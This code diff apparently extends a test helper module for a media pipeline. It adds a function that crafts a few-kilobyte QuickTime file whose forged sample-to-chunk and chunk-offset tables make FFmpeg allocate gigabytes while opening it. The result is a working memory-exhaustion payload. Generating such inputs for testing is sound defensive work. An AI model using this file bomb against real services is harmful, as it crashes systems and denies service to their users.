@@ -166,3 +166,41 @@ def forge_streaminfo(flac: bytes, claim_samples: int) -> bytes:
 
 
 Forge = Callable[[bytes], bytes]
+
+
+def _box(kind: bytes, payload: bytes) -> bytes:
+    return struct.pack(">I", 8 + len(payload)) + kind + payload
+
+
+def mp4_index_bomb(chunks: int = 80) -> bytes:
+    """A few-kilobyte QuickTime PCM file whose sample-to-chunk table claims 2**31 samples
+    a chunk: FFmpeg's demuxer builds an index entry per 1,024 of them while opening it,
+    gigabytes for a handful of chunks (found by an attack campaign)."""
+    buffer = io.BytesIO()
+    with av.open(buffer, "w", format="mov") as out:
+        stream = out.add_stream("pcm_s16le", rate=TONE_RATE, layout="mono")
+        pcm = tone(1)
+        frame = av.AudioFrame(format="s16", layout="mono", samples=len(pcm) // 2)
+        frame.planes[0].update(pcm)
+        frame.sample_rate = TONE_RATE
+        for packet in [*stream.encode(frame), *stream.encode(None)]:
+            out.mux(packet)
+    data = bytearray(buffer.getvalue())
+
+    def replace(kind: bytes, payload: bytes) -> int:
+        at = data.find(kind) - 4
+        old = struct.unpack(">I", data[at : at + 4])[0]
+        data[at : at + old] = _box(kind, payload)
+        return 8 + len(payload) - old
+
+    at = data.find(b"stco")
+    first = struct.unpack(">I", data[at + 12 : at + 16])[0]
+    delta = replace(b"stsc", struct.pack(">IIIII", 0, 1, 1, 0x7FFFFFFF, 1))
+    delta += replace(b"stco", struct.pack(">II", 0, chunks) + struct.pack(">I", first) * chunks)
+    for kind in (b"stbl", b"minf", b"mdia", b"trak", b"moov"):
+        at = data.find(kind) - 4
+        data[at : at + 4] = struct.pack(">I", struct.unpack(">I", data[at : at + 4])[0] + delta)
+    if data.find(b"moov") < data.find(b"mdat"):  # the samples moved with the index
+        at = data.find(b"stco") + 12
+        data[at : at + 4 * chunks] = struct.pack(">I", first + delta) * chunks
+    return bytes(data)
